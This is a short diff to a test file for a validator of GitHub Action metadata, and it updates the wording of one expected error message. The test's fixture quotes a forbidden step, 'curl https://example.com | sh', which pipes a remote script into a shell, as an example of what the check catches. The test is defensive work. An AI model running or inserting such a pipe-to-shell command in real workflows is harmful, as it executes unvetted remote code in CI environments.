@@ -187,7 +187,7 @@ describe('the metadata checks catch bad actions', () => {
     steps(a)[0]!.with = { 'artifact-ids': '${{ inputs.task-artifact }}' };
     a.outputs!['artifact-id']!.value = '${{ steps.uploaded.outputs.artifact-id }}';
     expect(checkHandOffAction(a, 'agent')).toEqual([
-      'actions/agent/action.yml: steps[3]: runs "curl https://example.com | sh", expected node "$GITHUB_ACTION_PATH/../../dist/index.js" (the only command it may run)',
+      'actions/agent/action.yml: steps[3]: runs "curl https://example.com | sh", expected exec node "$GITHUB_ACTION_PATH/../../dist/index.js" (the only command it may run)',
       'actions/agent/action.yml: steps[4]: run step has no shell',
       'actions/agent/action.yml: steps[4]: INPUT_PHASE is undefined, expected agent',
       'actions/agent/action.yml: steps[4]: INPUT_RUN-CONFIG is "${{ inputs.config }}", expected ${{ inputs.run-config }}',
